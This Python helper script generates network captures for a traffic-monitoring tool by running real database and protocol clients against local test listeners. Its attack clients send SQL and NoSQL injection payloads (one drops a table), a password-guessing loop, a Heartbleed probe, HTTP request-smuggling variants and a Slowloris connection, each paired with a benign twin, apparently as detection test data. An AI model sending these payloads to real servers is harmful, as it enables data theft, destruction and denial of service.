#!/usr/bin/env python3
"""Python clients and answering listeners that make_captures.py runs inside its namespaces.

    capture_helpers.py client PROTOCOL HOST PORT [ARGS...]   run a real client library
    capture_helpers.py serve PROTOCOL PORT                    run a server or answering listener
    capture_helpers.py serve many FIRST COUNT                 a one-line echo on COUNT ports

The clients are the real libraries (redis-py, psycopg, PyMySQL, grpcio, dnspython, kazoo,
python-binary-memcached, the Couchbase SDK, pyspark, pymongo, kafka-python, cassandra-driver,
python-tds, oracledb). The listeners stand in for servers that cannot run here (SQL Server,
Oracle); each answers with replies built to the protocol's specification:
protocol peers for client-first handshakes, not databases.
"""

from __future__ import annotations

import os
import socket
import socketserver
import struct
import sys
import time
from collections.abc import Callable

CLIENTS: dict[str, Callable[..., None]] = {}
SERVERS: dict[str, Callable[[int], None]] = {}

INJECTIONS = [
    "SELECT name FROM {t} WHERE name = '' OR '1'='1'",
    "SELECT name FROM {t} WHERE id = 1 UNION SELECT secret FROM {t}",
    "SELECT name FROM {t} WHERE name = 'admin' -- ' AND secret = 'x'",
    "SELECT name FROM {t} WHERE id = 1; DROP TABLE {t}_backup; -- '",
]


def client(fn: Callable[..., None]) -> Callable[..., None]:
    CLIENTS[fn.__name__.removeprefix("client_")] = fn
    return fn


def server(fn: Callable[[int], None]) -> Callable[[int], None]:
    SERVERS[fn.__name__.removeprefix("serve_")] = fn
    return fn


def bare(host: str) -> str:
    return host.strip("[]")


# ---------------------------------------------------------------------------- real clients


@client
def client_redis(host: str, port: str) -> None:
    import redis

    for _ in range(2):
        r = redis.Redis(host=bare(host), port=int(port), socket_timeout=5)
        r.ping()
        r.set("greeting", "hello")
        assert r.get("greeting") == b"hello"
        with r.pipeline(transaction=True) as p:
            p.incr("counter").lpush("jobs", "a", "b").execute()
        r.close()


@client
def client_postgresql(host: str, port: str, mode: str) -> None:
    import psycopg

    if mode == "inject":
        with psycopg.connect(host=bare(host), port=int(port), user="postgres", password="secret",
                             dbname="postgres", sslmode="disable", autocommit=True) as conn:
            for q in INJECTIONS:
                try:  # injected statements often fail on the server, as they do in the wild
                    conn.execute(q.format(t="users").encode()).fetchall()
                except psycopg.Error as exc:
                    print("server said:", exc)
        return
    for ssl in ("disable", "prefer"):
        with psycopg.connect(host=bare(host), port=int(port), user="postgres", password="secret",
                             dbname="postgres", sslmode=ssl) as conn:
            conn.execute("SELECT name FROM users ORDER BY id").fetchall()
            conn.execute("INSERT INTO users VALUES (%s, %s, %s) ON CONFLICT DO NOTHING", (3, "carol", "s3"))
            conn.execute("SELECT secret FROM users WHERE id = %s", (1,), prepare=True).fetchone()
            conn.commit()


@client
def client_mysql(host: str, port: str, mode: str) -> None:
    import pymysql

    if mode == "inject":
        conn = pymysql.connect(host=bare(host), port=int(port), user="app", password="secret", database="shop")
        with conn.cursor() as cur:
            for q in INJECTIONS:
                try:  # injected statements often fail on the server, as they do in the wild
                    cur.execute(q.format(t="users"))
                    cur.fetchall()
                except pymysql.MySQLError as exc:
                    print("server said:", exc)
        conn.close()
        return
    for i in range(2):
        conn = pymysql.connect(host=bare(host), port=int(port), user="app", password="secret", database="shop")
        with conn.cursor() as cur:
            cur.execute("SELECT name FROM users ORDER BY id")
            cur.fetchall()
            cur.execute("INSERT IGNORE INTO users VALUES (%s, %s, %s)", (10 + i, "dave", "s4"))
        conn.commit()
        conn.close()


@client
def client_login(proto: str, host: str, port: str, mode: str) -> None:
    """Logins to a real server: ``guess`` tries 12 wrong passwords, one connection each (a
    password-guessing client); ``typo`` one wrong password, then the right one and a query."""
    import psycopg
    import pymysql
    import redis
    from redis.backoff import NoBackoff
    from redis.retry import Retry

    def login(password: str) -> None:
        if proto == "mysql":
            pymysql.connect(host=bare(host), port=int(port), user="app", password=password, database="shop",
                            connect_timeout=5).close()
        elif proto == "postgresql":
            psycopg.connect(host=bare(host), port=int(port), user="postgres", password=password,
                            dbname="postgres", sslmode="disable", connect_timeout=5).close()
        else:
            # redis-py retries a refused login on new connections by default: one try, as a person's.
            r = redis.Redis(host=bare(host), port=int(port), password=password, socket_timeout=5,
                            retry=Retry(NoBackoff(), 0))
            r.ping()
            r.close()

    tries = [f"guess{i}" for i in range(12)] if mode == "guess" else ["secert", "secret"]
    for pw in tries:
        try:
            login(pw)
            print(pw, "accepted")
        except (pymysql.MySQLError, psycopg.Error, redis.RedisError) as exc:
            print(pw, "refused:", exc)
        time.sleep(0.3)


@client
def client_tls(host: str, port: str, sni: str, cafile: str) -> None:
    import ssl

    for alpn in (["h2", "http/1.1"], ["http/1.1"]):
        ctx = ssl.create_default_context(cafile=cafile)
        ctx.check_hostname = False  # the certificate names api.flowmap.test; the SNI sent is what matters
        ctx.set_alpn_protocols(alpn)
        with socket.create_connection((bare(host), int(port)), timeout=5) as raw:
            with ctx.wrap_socket(raw, server_hostname=sni) as s:
                s.sendall(f"GET / HTTP/1.0\r\nHost: {sni}\r\n\r\n".encode())
                while s.recv(4096):
                    pass


@client
def client_http(host: str, port: str) -> None:
    import requests

    base = f"http://[{bare(host)}]:{port}" if ":" in bare(host) else f"http://{host}:{port}"
    with requests.Session() as s:
        s.get(f"{base}/index.html", headers={"Host": "web.flowmap.test"}, timeout=5)
        s.get(f"{base}/data.json", timeout=5)
    requests.post(f"{base}/api/items", json={"name": "flowmap"}, timeout=5)


@client
def client_dns(host: str, port: str) -> None:
    import dns.message
    import dns.query

    for name, qtype in (("api.flowmap.test", "A"), ("api.flowmap.test", "AAAA"), ("www.flowmap.test", "A")):
        dns.query.udp(dns.message.make_query(name, qtype), bare(host), port=int(port), timeout=3)
    dns.query.tcp(dns.message.make_query("www.flowmap.test", "AAAA"), bare(host), port=int(port), timeout=3)


@client
def client_dns_names(host: str, port: str, zone: str, count: str) -> None:
    """``count`` A queries for distinct short names under ``zone`` (8 hex digits each: no label is
    long or random enough for the per-session rules), each from a new socket (a new session)."""
    import dns.message
    import dns.query

    for i in range(int(count)):
        dns.query.udp(dns.message.make_query(f"{i * 2654435761 % 2**32:08x}.{zone}", "A"), bare(host),
                      port=int(port), timeout=3)


@client
def client_dns_big_query(host: str, port: str, name: str) -> None:
    """One A query carrying 700 bytes in an EDNS option: a datagram no lookup needs."""
    import dns.edns
    import dns.message
    import dns.query

    q = dns.message.make_query(name, "A", use_edns=0, options=[dns.edns.GenericOption(65001, b"\x5a" * 700)])
    dns.query.udp(q, bare(host), port=int(port), timeout=3)


@client
def client_grpc(host: str, port: str) -> None:
    import grpc
    from google.protobuf import wrappers_pb2

    ser, de = wrappers_pb2.StringValue.SerializeToString, wrappers_pb2.StringValue.FromString
    for i in range(2):
        # A local subchannel pool: each channel makes its own connection (a session per channel).
        with grpc.insecure_channel(f"{host}:{port}", options=[("grpc.use_local_subchannel_pool", 1)]) as ch:
            hello = ch.unary_unary("/flowmap.demo.Greeter/SayHello", request_serializer=ser, response_deserializer=de)
            stream = ch.unary_stream("/flowmap.demo.Greeter/StreamHellos", request_serializer=ser,
                                     response_deserializer=de)
            hello(wrappers_pb2.StringValue(value=f"flowmap {i}"), timeout=10)
            list(stream(wrappers_pb2.StringValue(value="stream"), timeout=10))


@client
def client_zookeeper(host: str, port: str) -> None:
    from kazoo.client import KazooClient

    zk = KazooClient(hosts=f"{host}:{port}", timeout=10)
    zk.start(timeout=30)
    zk.ensure_path("/flowmap/config")
    zk.create("/flowmap/config/mode", b"learn")
    zk.get("/flowmap/config/mode")
    zk.set("/flowmap/config/mode", b"monitor")
    zk.get_children("/flowmap")
    zk.delete("/flowmap", recursive=True)
    zk.stop()
    zk.close()


@client
def client_couchbase(host: str, port: str) -> None:
    import bmemcached

    c = bmemcached.Client([f"{host}:{port}"])
    c.set("flowmap:edge", "client->server", time=60)
    c.get("flowmap:edge")
    c.add("flowmap:counter", 1)
    c.incr("flowmap:counter", 5)
    c.get("flowmap:missing")
    c.delete("flowmap:edge")
    c.stats()
    c.disconnect_all()


@client
def client_couchbase_sdk(host: str, port: str) -> None:
    from datetime import timedelta

    from couchbase.auth import PasswordAuthenticator
    from couchbase.cluster import Cluster
    from couchbase.exceptions import CouchbaseException
    from couchbase.options import ClusterOptions, ClusterTimeoutOptions

    opts = ClusterOptions(PasswordAuthenticator("app", "secret"),
                          timeout_options=ClusterTimeoutOptions(connect_timeout=timedelta(seconds=4),
                                                                bootstrap_timeout=timedelta(seconds=4)))
    try:  # memcached answers the Couchbase-only HELLO/GET_ERROR_MAP/SASL with "unknown command"
        h = f"[{bare(host)}]" if ":" in bare(host) else host
        cluster = Cluster.connect(f"couchbase://{h}:{port}", opts)
        cluster.close()
    except CouchbaseException as exc:
        print("expected:", exc)


@client
def client_spark(host: str, port: str) -> None:
    import os

    from pyspark.sql import SparkSession

    spark = (SparkSession.builder.master(f"spark://{host}:{port}").appName("flowmap-capture")
             .config("spark.driver.host", os.environ.get("SPARK_LOCAL_IP", "0.0.0.0"))
             .config("spark.ui.enabled", "false").getOrCreate())
    time.sleep(4)  # long enough for the master to register the application
    spark.stop()


@client
def client_mongodb(host: str, port: str) -> None:
    import pymongo

    h = f"[{bare(host)}]" if ":" in bare(host) else host
    c = pymongo.MongoClient(f"mongodb://{h}:{port}/?directConnection=true&serverSelectionTimeoutMS=5000",
                            heartbeatFrequencyMS=60000)
    c.admin.command("ping")
    c.shop.users.insert_one({"name": "alice"})
    list(c.shop.users.find({"name": "alice"}))
    c.close()


@client
def client_mongodb_queries(host: str, port: str, mode: str) -> None:
    """Finds whose filters come from "user input": ``inject`` passes an operator object where a
    password string belongs (NoSQL injection); ``benign`` sends ordinary operator queries."""
    import pymongo

    h = f"[{bare(host)}]" if ":" in bare(host) else host
    c = pymongo.MongoClient(f"mongodb://{h}:{port}/?directConnection=true&serverSelectionTimeoutMS=5000",
                            heartbeatFrequencyMS=60000)
    users = c.shop.users
    users.insert_one({"user": "admin", "password": "s3cret", "age": 41})
    if mode == "inject":
        print(list(users.find({"user": "admin", "password": {"$ne": None}})))
    else:
        print(list(users.find({"age": {"$gt": 30}})))
        print(list(users.find({"deletedAt": {"$ne": None}, "user": {"$in": ["admin", "bob"]}})))
        print(list(users.find({"user": "admin", "password": "s3cret"})))
    c.close()


@client
def client_kafka_produce(host: str, port: str) -> None:
    from kafka import KafkaProducer

    producer = KafkaProducer(bootstrap_servers=f"{host}:{port}", request_timeout_ms=30000)
    for i in range(3):
        producer.send("flowmap", key=b"edge", value=f"client->server {i}".encode()).get(timeout=60)
    producer.flush()
    producer.close()


@client
def client_kafka_consume(host: str, port: str) -> None:
    from kafka import KafkaConsumer

    consumer = KafkaConsumer("flowmap", bootstrap_servers=f"{host}:{port}", group_id="flowmap-capture",
                             auto_offset_reset="earliest", consumer_timeout_ms=8000)
    got = [m.value for m in consumer]
    consumer.commit()
    consumer.close()
    print("consumed", len(got))


@client
def client_cassandra(host: str, port: str) -> None:
    from cassandra.auth import PlainTextAuthProvider
    from cassandra.cluster import Cluster

    # Schema metadata off: it would add ~100 KB of system_schema rows to each capture.
    cluster = Cluster([bare(host)], port=int(port), connect_timeout=10, schema_metadata_enabled=False,
                      auth_provider=PlainTextAuthProvider("cassandra", "cassandra"))
    session = cluster.connect()
    session.execute("CREATE KEYSPACE IF NOT EXISTS flowmap WITH replication = "
                    "{'class': 'SimpleStrategy', 'replication_factor': 1}")
    session.execute("CREATE TABLE IF NOT EXISTS flowmap.edges (client text, server text, bytes bigint, "
                    "PRIMARY KEY (client, server))")
    session.execute("INSERT INTO flowmap.edges (client, server, bytes) VALUES (%s, %s, %s)", ("web", "db", 4096))
    list(session.execute("SELECT * FROM flowmap.edges WHERE client = %s", ("web",)))
    cluster.shutdown()


@client
def client_tds(host: str, port: str) -> None:
    import pytds

    for i in range(2):
        with pytds.connect(server=bare(host), port=int(port), user="sa", password="Secret-1", database="shop",
                           login_timeout=5, timeout=5, autocommit=True) as conn:
            with conn.cursor() as cur:
                cur.execute("SELECT name FROM users WHERE id = 1" if i == 0 else "SELECT @@VERSION")
                cur.fetchall()


@client
def client_tns(host: str, port: str) -> None:
    import oracledb

    for service in ("FLOWMAP", "ORCLPDB1"):
        try:
            oracledb.connect(user="app", password="secret", host=bare(host), port=int(port), service_name=service,
                             tcp_connect_timeout=5)
        except oracledb.Error as exc:  # accepted then closed, or refused: the exchange is what we record
            print("expected:", exc)


# ---------------------------------------------------------------------------- attack clients


def _tls_client_hello() -> bytes:
    """A TLS 1.2 ClientHello as an OpenSSL 1.0.1 client sent it: ECDHE/RSA suites, SNI, groups,
    point formats, signature algorithms, and the heartbeat extension (peer allowed to send)."""
    def ext(kind: int, body: bytes) -> bytes:
        return struct.pack("!HH", kind, len(body)) + body

    name = b"vulnerable.flowmap.test"
    suites = [0xC02F, 0xC030, 0xC013, 0xC014, 0x009C, 0x009D, 0x002F, 0x0035, 0x00FF]
    exts = (ext(0, struct.pack("!HBH", len(name) + 3, 0, len(name)) + name)
            + ext(10, struct.pack("!HHHH", 6, 0x001D, 0x0017, 0x0018))
            + ext(11, b"\x01\x00")
            + ext(13, struct.pack("!HHHHH", 8, 0x0804, 0x0401, 0x0501, 0x0201))
            + ext(15, b"\x01"))
    body = (struct.pack("!H", 0x0303) + os.urandom(32) + b"\x00"
            + struct.pack("!H", 2 * len(suites)) + b"".join(struct.pack("!H", c) for c in suites)
            + b"\x01\x00" + struct.pack("!H", len(exts)) + exts)
    hs = b"\x01" + len(body).to_bytes(3, "big") + body
    return struct.pack("!BHH", 22, 0x0301, len(hs)) + hs


def _read_until_hello_done(s: socket.socket) -> bytes:
    """The server's handshake records up to its ServerHelloDone (handshake type 14)."""
    buf = b""
    off = 0
    while True:
        while len(buf) < off + 5 or len(buf) < off + 5 + struct.unpack("!H", buf[off + 3:off + 5])[0]:
            chunk = s.recv(65536)
            if not chunk:
                raise EOFError(f"server closed during the handshake after {len(buf)} bytes")
            buf += chunk
        typ, n = buf[off], struct.unpack("!H", buf[off + 3:off + 5])[0]
        if typ != 22:
            raise RuntimeError(f"record type {typ} during the handshake")
        # Handshake messages inside the record (whole records only: OpenSSL sends them so).
        body, i = buf[off + 5:off + 5 + n], 0
        while i + 4 <= len(body):
            if body[i] == 14:
                return buf
            i += 4 + int.from_bytes(body[i + 1:i + 4], "big")
        off += 5 + n


@client
def client_heartbeat(host: str, port: str, kind: str) -> None:
    """The classic Heartbleed probe (kind ``malicious``: a heartbeat request claiming 16384 bytes
    in a 3-byte record, right after the ServerHelloDone, unencrypted) or its well-formed twin
    (``benign``: payload and padding as long as the message says). The server's answer (an
    alert: OpenSSL 3 has no heartbeats) is read until it closes."""
    for _ in range(2):
        with socket.create_connection((bare(host), int(port)), timeout=5) as s:
            s.sendall(_tls_client_hello())
            _read_until_hello_done(s)
            if kind == "malicious":
                message = b"\x01" + struct.pack("!H", 0x4000)
            else:
                payload = b"flowmap heartbeat"
                message = b"\x01" + struct.pack("!H", len(payload)) + payload + os.urandom(16)
            s.sendall(struct.pack("!BHH", 24, 0x0303, len(message)) + message)
            try:
                while s.recv(65536):
                    pass
            except (ConnectionResetError, socket.timeout):
                pass


SMUGGLING_REQUESTS = {
    "cl-te": ("Content-Length: 6", "Transfer-Encoding: chunked"),
    "cl-cl": ("Content-Length: 5", "Content-Length: 6"),
    "cl-negative": ("Content-Length: -1",),
    "te-xchunked": ("Transfer-Encoding: xchunked",),
    "te-vtab": ("Transfer-Encoding:\x0bchunked",),
    "te-twice": ("Transfer-Encoding: chunked", "Transfer-Encoding: identity"),
    "te-space-colon": ("Transfer-Encoding : chunked",),
}


@client
def client_smuggling(host: str, port: str) -> None:
    """One connection per smuggling request (``SMUGGLING_REQUESTS``), written raw: the body is a
    chunked terminator followed by a second request, the smuggled one. The answer is read
    (400, 501 or whatever the server says) until it closes or 2 s pass."""
    for name, headers in SMUGGLING_REQUESTS.items():
        smuggled = f"GET /admin?via={name} HTTP/1.1\r\nHost: web.flowmap.test\r\n\r\n"
        head = "".join(f"{h}\r\n" for h in headers)
        request = (f"POST /upload HTTP/1.1\r\nHost: web.flowmap.test\r\nUser-Agent: smuggler\r\n{head}"
                   f"Connection: close\r\n\r\n0\r\n\r\n{smuggled}")
        with socket.create_connection((bare(host), int(port)), timeout=2) as s:
            s.sendall(request.encode("latin-1"))
            try:
                while s.recv(65536):
                    pass
            except (ConnectionResetError, socket.timeout):
                pass


@client
def client_slowloris(host: str, port: str, lines: str, gap: str) -> None:
    """A Slowloris connection: a request line, then one more header line every ``gap`` seconds,
    ``lines`` of them, never the blank line that ends the headers."""
    with socket.create_connection((bare(host), int(port)), timeout=5) as s:
        s.sendall(b"GET /index.html HTTP/1.1\r\nHost: web.flowmap.test\r\n")
        for i in range(int(lines)):
            time.sleep(float(gap))
            s.sendall(f"X-a-{i}: {i}\r\n".encode())


@client
def client_split_request(host: str, port: str) -> None:
    """An ordinary request written in five pieces 50 ms apart (the closest benign case of a slow
    client), then its answer read."""
    request = b"GET /index.html HTTP/1.1\r\nHost: web.flowmap.test\r\nUser-Agent: split\r\nConnection: close\r\n\r\n"
    with socket.create_connection((bare(host), int(port)), timeout=5) as s:
        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        for i in range(0, len(request), 20):
            s.sendall(request[i:i + 20])
            time.sleep(0.05)
        while s.recv(65536):
            pass


# ---------------------------------------------------------------------------- servers and listeners


class _Server(socketserver.ThreadingTCPServer):
    address_family = socket.AF_INET6
    allow_reuse_address = True
    daemon_threads = True

    def server_bind(self) -> None:
        self.socket.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
        super().server_bind()


def serve_tcp(port: int, handle: Callable[[socket.socket], None]) -> None:
    class H(socketserver.BaseRequestHandler):
        def handle(self) -> None:
            try:
                handle(self.request)
            except (ConnectionError, OSError, EOFError) as exc:
                print("connection ended:", exc, flush=True)

    with _Server(("::", port), H) as srv:
        srv.serve_forever()


def recv_exact(s: socket.socket, n: int) -> bytes:
    buf = b""
    while len(buf) < n:
        chunk = s.recv(n - len(buf))
        if not chunk:
            raise EOFError("peer closed")
        buf += chunk
    return buf


@server
def serve_grpc(port: int) -> None:
    from concurrent import futures

    import grpc
    from google.protobuf import wrappers_pb2

    sv = wrappers_pb2.StringValue

    def say_hello(req: object, ctx: object) -> object:
        return sv(value=f"hello {req.value}")  # type: ignore[attr-defined]

    def stream_hellos(req: object, ctx: object):  # type: ignore[no-untyped-def]
        for i in range(3):
            yield sv(value=f"hello {i} {req.value}")  # type: ignore[attr-defined]

    handler = grpc.method_handlers_generic_handler("flowmap.demo.Greeter", {
        "SayHello": grpc.unary_unary_rpc_method_handler(say_hello, sv.FromString, sv.SerializeToString),
        "StreamHellos": grpc.unary_stream_rpc_method_handler(stream_hellos, sv.FromString, sv.SerializeToString),
    })
    srv = grpc.server(futures.ThreadPoolExecutor(max_workers=4))
    srv.add_generic_rpc_handlers((handler,))
    srv.add_insecure_port(f"[::]:{port}")
    srv.start()
    srv.wait_for_termination()


# TDS 7.4: 8-byte packet header (type, status, length, spid, packet id, window).
@server
def serve_tds(port: int) -> None:
    def packet(ptype: int, data: bytes) -> bytes:
        return struct.pack(">BBHHBB", ptype, 0x01, 8 + len(data), 0, 1, 0) + data

    def bvarchar(v: str) -> bytes:
        return bytes([len(v)]) + v.encode("utf-16-le")

    def envchange(kind: int, new: str, old: str) -> bytes:
        data = bytes([kind]) + bvarchar(new) + bvarchar(old)
        return b"\xe3" + struct.pack("<H", len(data)) + data

    def done(status: int = 0, rows: int = 0) -> bytes:
        return b"\xfd" + struct.pack("<HHQ", status, 0xC1 if rows else 0, rows)

    def prelogin_reply() -> bytes:
        opts = [(0x00, struct.pack(">BBBBH", 16, 0, 0x10, 0x7E, 0)),  # VERSION 16.0.4222
                (0x01, b"\x02"),  # ENCRYPTION: not supported
                (0x02, b"\x00"),  # INSTOPT
                (0x03, b""),  # THREADID
                (0x04, b"\x00")]  # MARS off
        off = 5 * len(opts) + 1
        head, data = b"", b""
        for tok, val in opts:
            head += struct.pack(">BHH", tok, off + len(data), len(val))
            data += val
        return head + b"\xff" + data

    def login_reply() -> bytes:
        prog = bvarchar("Microsoft SQL Server")
        ack = bytes([1]) + struct.pack(">I", 0x74000004) + prog + bytes([16, 0, 0x10, 0x7E])
        loginack = b"\xad" + struct.pack("<H", len(ack)) + ack
        return (envchange(1, "shop", "master") + envchange(2, "us_english", "")
                + envchange(4, "4096", "4096") + loginack + done())

    def result_reply() -> bytes:
        # COLMETADATA: 1 column NVARCHAR(100) "name"; ROW; DONE with count
        col = struct.pack("<IH", 0, 0x0009) + b"\xe7" + struct.pack("<H", 200) + b"\x09\x04\xd0\x00\x34" + bvarchar("name")
        meta = b"\x81" + struct.pack("<H", 1) + col
        value = "alice".encode("utf-16-le")
        row = b"\xd1" + struct.pack("<H", len(value)) + value
        return meta + row + done(0x10, 1)

    def handle(s: socket.socket) -> None:
        while True:
            ptype, _status, length = struct.unpack(">BBH", recv_exact(s, 4))
            recv_exact(s, length - 4)
            if ptype == 0x12:
                s.sendall(packet(0x04, prelogin_reply()))
            elif ptype == 0x10:
                s.sendall(packet(0x04, login_reply()))
            elif ptype == 0x01:
                s.sendall(packet(0x04, result_reply()))
            else:
                s.sendall(packet(0x04, done()))

    serve_tcp(port, handle)


# TNS: 8-byte header (length, checksum, type, flags, header checksum). CONNECT (1) for service
# FLOWMAP -> ACCEPT (2), then the client's first DATA packet is read and the connection closed;
# any other service -> REFUSE (4) with ERR=12514, as an Oracle listener answers.
@server
def serve_tns(port: int) -> None:
    def packet(ptype: int, body: bytes) -> bytes:
        return struct.pack(">HHBBH", 8 + len(body), 0, ptype, 0, 0) + body

    def handle(s: socket.socket) -> None:
        head = recv_exact(s, 8)
        length, _ck, ptype = struct.unpack(">HHB", head[:5])
        body = recv_exact(s, length - 8)
        if ptype != 1:
            return
        data_len, data_off = struct.unpack(">HH", body[16:20])
        connect = (head + body)[data_off:data_off + data_len]
        if len(connect) < data_len:  # the connect string did not fit: it follows in a DATA packet
            nxt = recv_exact(s, 8)
            connect = recv_exact(s, struct.unpack(">H", nxt[:2])[0] - 8)[2:]
        print("CONNECT", connect.decode(errors="replace"), flush=True)
        if b"SERVICE_NAME=FLOWMAP)" in connect.upper():
            accept = struct.pack(">HHHHHHH", 317, 0x0801, 8192, 65535, 0x4F98, 0, 36) + b"\x01" + bytes(9)
            accept += struct.pack(">I", 8192)
            s.sendall(packet(2, accept))
            # From version 315 on, packets after ACCEPT carry a 32-bit length.
            (n,) = struct.unpack(">I", recv_exact(s, 4))
            recv_exact(s, n - 4)
            return
        reason = b"(DESCRIPTION=(TMP=)(VSNNUM=318767104)(ERR=12514)(ERROR_STACK=(ERROR=(CODE=12514)(EMFI=4))))"
        s.sendall(packet(4, struct.pack(">BBH", 0x22, 0x00, len(reason)) + reason))

    serve_tcp(port, handle)


@server
def serve_tfo_http(port: int) -> None:
    """Python's http.server with TCP Fast Open on its listening socket (the kernel does the rest)."""
    import http.server

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            body = b"fast open\n"
            self.send_response(200)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

    class Server(http.server.ThreadingHTTPServer):
        address_family = socket.AF_INET6

        def server_bind(self) -> None:
            self.socket.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
            self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_FASTOPEN, 16)
            super().server_bind()

    with Server(("::", port), Handler) as srv:
        srv.serve_forever()


# ---------------------------------------------------------------------------- rate watches


@client
def client_burst(host: str, port: str, count: str, seconds: str) -> None:
    """``count`` short connections one after another, spread over ``seconds``, each completed:
    connect, send a line, read the answer, close (the benign case of syn-flood)."""
    start = time.monotonic()
    gap = float(seconds) / int(count)
    for i in range(int(count)):
        time.sleep(max(0.0, start + i * gap - time.monotonic()))
        with socket.create_connection((bare(host), int(port)), timeout=5) as s:
            s.sendall(b"ping\n")
            s.recv(64)
    print(f"{count} connections in {time.monotonic() - start:.2f}s", flush=True)


@client
def client_ports(host: str, first: str, count: str) -> None:
    """One completed exchange with each of ``count`` ports from ``first`` on, twice (a busy client of
    many services of one server: the benign case of port-scan)."""
    for _ in range(2):
        for port in range(int(first), int(first) + int(count)):
            with socket.create_connection((bare(host), port), timeout=5) as s:
                s.sendall(b"ping\n")
                s.recv(64)


def serve_many(first: int, count: int) -> None:
    """An echo of one line on each of ``count`` ports from ``first`` on."""
    import selectors

    sel = selectors.DefaultSelector()
    for port in range(first, first + count):
        ls = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
        ls.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        ls.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
        ls.bind(("::", port))
        ls.listen(512)
        sel.register(ls, selectors.EVENT_READ, "listen")
    while True:
        for key, _ in sel.select():
            sock = key.fileobj
            assert isinstance(sock, socket.socket)
            if key.data == "listen":
                conn, _ = sock.accept()
                sel.register(conn, selectors.EVENT_READ, "conn")
                continue
            try:
                data = sock.recv(64)
                if data:
                    sock.sendall(data)
                    continue
            except OSError:
                pass
            sel.unregister(sock)
            sock.close()


@server
def serve_echo_lines(port: int) -> None:
    """A one-line echo on ``port`` (the burst's server)."""
    serve_many(port, 1)


def main(argv: list[str]) -> int:
    if len(argv) < 3 or argv[0] not in ("client", "serve"):
        print(__doc__)
        return 2
    if argv[0] == "client":
        CLIENTS[argv[1]](*argv[2:])
    elif argv[1] == "many":
        serve_many(int(argv[2]), int(argv[3]))
    else:
        SERVERS[argv[1]](int(argv[2]))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
